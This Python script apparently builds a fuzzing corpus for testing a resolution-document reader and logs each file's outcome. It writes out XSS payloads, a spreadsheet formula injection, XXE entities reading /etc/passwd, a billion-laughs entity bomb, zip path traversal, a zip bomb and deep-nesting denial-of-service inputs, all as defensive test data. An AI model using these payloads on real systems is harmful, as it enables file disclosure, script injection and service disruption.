"""Documents that mean harm, or that harm has come to: built here, none of them is anybody's text.

python hostile.py FOLDER      reads every file of a folder, each outcome a line of JSON (run in a process of its own)
"""

from __future__ import annotations

import io
import json
import random
import re
import resource
import sys
import time
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

AKN = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
SCRIPT = "<script>alert('tracker')</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://x/"&A1,"go")'
BIDI = "a\u202egnp.exe\u202c\u2066b\u2069\u200b\u200d\ufeffc"
FIELDS = (SCRIPT, IMAGE, FORMULA, BIDI, "javascript:alert(1)", "{{7*7}}", "%s%n", "\x1b[31mred", "&lt;b&gt;", "]]>")
TEXT = (
    "76/10. {}\n\nThe General Assembly,\n\nRecalling {},\n\n1. *Decides* {};\n\n2. *Ends* {}.\n\n"
    "9th plenary meeting\n1 May 2022"
)


def akn(body: str, title: str = "Bridges", head: str = "") -> str:
    """A small statement in AKN."""
    return (
        f'<akomaNtoso xmlns="{AKN}">{head}<statement><preface><p><docNumber>76/10.</docNumber></p>'
        f"<p><docTitle>{title}</docTitle></p></preface><preamble><formula><p>The General Assembly,</p></formula>"
        f"</preamble><mainBody>{body}</mainBody></statement></akomaNtoso>"
    )


def paragraph(text: str) -> str:
    """An operative paragraph in AKN."""
    return f"<paragraph><num>1.</num><content><p>{text}</p></content></paragraph>"


def in_json(**fields: object) -> bytes:
    """A resolution in JSON."""
    one = {"kind": "operative", "number": "1.", "text": "Decides."}
    return json.dumps({"symbol": "A/RES/76/10", "language": "en", "title": "x", "paragraphs": [one], **fields}).encode()


def in_word(document: bytes, **parts: bytes) -> bytes:
    """A .docx with this main part, and others by name, "/" for "__"."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", document)
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return target.getvalue()


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(body: str) -> bytes:
    """The main part of a .docx."""
    return f'<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'.encode()


def escaped(text: str) -> str:
    """Text in XML; what XML can't hold is left out."""
    kept = "".join(letter for letter in text if letter >= " " or letter in "\t\n")
    return kept.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def fields() -> Mapping[str, bytes]:
    """Every text field of every form, each with something that a page, a table or a terminal could take for its own."""
    found: dict[str, bytes] = {}
    for number, harm in enumerate(FIELDS):
        text, noted = escaped(harm), [{"mark": harm, "text": harm}]
        one = {"kind": "operative", "number": harm, "text": harm, "notes": noted}
        forms = {
            "txt": TEXT.format(harm, harm, harm, harm),
            "xml": akn(paragraph(f"{text} ends."), title=text),
            "json": in_json(title=harm, paragraphs=[one]).decode(),
            "html": f"<html><body><p>76/10. {text}<p>The General Assembly,<p>1. Decides {text}.</body></html>",
        }
        for place, (form, content) in enumerate(forms.items()):
            found[f"field-{number}.{form}"] = content.replace("76/10", f"76/{10 * number + place + 10}").encode()
    return found


def small() -> Mapping[str, bytes]:
    """Everything that is small as a file, whatever it wants to become."""
    noise = random.Random(7)  # noqa: S311 - noise, no secret
    whole = akn(paragraph("Ends.") * 20).encode()
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    deep = 200_000
    attributes = " ".join(f"a{number}='1'" for number in range(100_000))
    bomb = word("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 10 + "</w:p>" + " " * (200 << 20))
    found = {
        "empty.txt": b"",
        "nul.txt": TEXT.format("a\0b", "\0", "\0", "\0").encode(),
        "random.bin": noise.randbytes(50_000),
        "random.docx": b"PK\x03\x04" + noise.randbytes(50_000),
        "random.pdf": b"%PDF-1.7\n" + noise.randbytes(50_000),
        "random.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise.randbytes(5_000),
        "cut.xml": whole[: len(whole) // 2],
        "cut-in-a-letter.txt": TEXT.format("é", "é", "é", "é").encode()[:9],
        "bomb.xml": f'<!DOCTYPE a [<!ENTITY e0 "ha">{entities}]><a>&e11;</a>'.encode(),
        "external.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "external-dtd.xml": b'<!DOCTYPE a SYSTEM "http://127.0.0.1:9/x.dtd"><a/>',
        "utf16-doctype.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a/>'.encode("utf-16"),
        "deep.xml": akn("<p>" * deep).encode(),
        "deep-closed.xml": akn("<section>" * deep + "</section>" * deep).encode(),
        "deep.json": b'{"paragraphs": ' + b"[" * deep,
        "deep-value.json": in_json(paragraphs=[{"kind": "operative", "text": "a"}]).replace(
            b'"x"', b"[" * 900 + b"]" * 900
        ),
        "deep.html": b"<html><body>" + b"<div><blockquote>" * deep + b"The General Assembly,<p>1. Ends.",
        "deep.md": b"> " * deep + b"The General Assembly,\n\n1. Ends.",
        "attributes.xml": f'<akomaNtoso xmlns="{AKN}" {attributes}/>'.encode(),
        "surrogate.json": in_json().replace(b"Decides.", b"\\ud800 alone"),
        "surrogate-title.json": in_json().replace(b'"x"', b'"\\udfff"'),
        "numbers.json": in_json().replace(b'"x"', b"1e999"),
        "mixed.txt": TEXT.format("é", "x", "y", "z").encode() + "“é”".encode("cp1252"),
        "utf32.txt": TEXT.format("a", "b", "c", "d").encode("utf-32"),
        "bombed.docx": in_word(bomb),
        "traversal.docx": in_word(
            word("<w:p><w:r><w:t>1. Ends.</w:t></w:r></w:p>"),
            **{
                "..__..__..__tmp__hostile": b"x",
                "_rels__.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="1" Type="a/officeDocument" Target="../../../../etc/passwd"/></Relationships>',
            },
        ),
        "doctype.docx": in_word(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        "deep.docx": in_word(word("<w:tbl><w:tr><w:tc>" * 50_000)),
        "loop.docx": in_word(
            word("<w:p><w:pPr><w:pStyle w:val='a'/></w:pPr><w:r><w:t>1. Ends.</w:t></w:r></w:p>"),
            word__styles=f"<w:styles xmlns:w='{_W}'><w:style w:styleId='a'><w:basedOn w:val='b'/></w:style>"
            "<w:style w:styleId='b'><w:basedOn w:val='a'/></w:style></w:styles>".encode(),
        ),
        "not-word.zip": b"PK\x05\x06" + b"\0" * 18,
        "many-numbers.txt": ("The General Assembly,\n\n" + "1. a b c\n" * 20_000).encode(),
        "many-brackets.txt": ("The General Assembly,\n\n1. " + "[" * 50_000 + "]" * 50_000 + ".").encode(),
        "many-stars.md": ("The General Assembly,\n\n1. " + "*_~~**" * 30_000 + ".").encode(),
        "many-notes.txt": ("The General Assembly,\n\n1. " + "a¹ " * 20_000 + ".\n\n" + "¹ b\n" * 20_000).encode(),
        "many-entities.html": b"<html><body><p>The General Assembly,<p>1. " + b"&amp;" * 200_000,
        "one-word.txt": b"The General Assembly,\n\n1. " + b"a" * 500_000 + b".",
        "blanks.txt": b"The General Assembly,\n\n1. a" + b" " * 500_000 + b"b.",
        "dates.txt": b"The General Assembly,\n\n1. " + b"1 May 20 " * 50_000 + b".",
        "symbols.txt": b"The General Assembly,\n\n1. " + b"A/RES/7" * 50_000 + b".",
        "combining.txt": ("The General Assembly,\n\n1. a" + "\u0301" * 200_000 + ".").encode(),
    }
    return {**found, **fields()}


def large() -> Iterator[tuple[str, bytes]]:
    """What is large: one line of 100 MB, and as much as is read at all."""
    yield "line-of-100-mb.txt", b"The General Assembly,\n\n1. " + b"word " * (20 << 20)
    yield "line-of-100-mb.xml", akn(paragraph("word " * (20 << 20))).encode()
    yield "line-of-100-mb.json", in_json(title="x" * (100 << 20))
    yield "line-of-100-mb.html", b"<html><body><p>The General Assembly,<p>1. " + b"word " * (20 << 20)


def _most_memory() -> int:
    """Bytes. Linux counts in getrusage what the process that started this one held, so its own file is asked."""
    status = Path("/proc/self/status")
    if status.exists() and (found := re.search(r"VmHWM:\s+(\d+) kB", status.read_text(encoding="ascii"))):
        return int(found[1]) << 10
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10


def main(folder: Path) -> None:
    """Read every file; say what came of it, how long it took (seconds of work), and the most memory so far (MB)."""
    from tracker.errors import TrackerError
    from tracker.pipeline.reading import read

    for file in sorted(folder.iterdir()):
        started = time.process_time()
        try:
            document = read(file.read_bytes(), file.name)
            outcome, said = "read", [one.text for one in document.findings]
        except TrackerError as error:
            outcome, said = "refused", [str(error)]
        except BaseException as error:  # noqa: BLE001 - this is what is looked for
            outcome, said = "crashed", [repr(error)[:500]]
        spent = round(time.process_time() - started, 2)
        peak = _most_memory() >> 20
        sys.stdout.write(
            json.dumps({"name": file.name, "outcome": outcome, "said": said, "spent": spent, "peak": peak}) + "\n"
        )
        sys.stdout.flush()


if __name__ == "__main__":
    main(Path(sys.argv[1]))
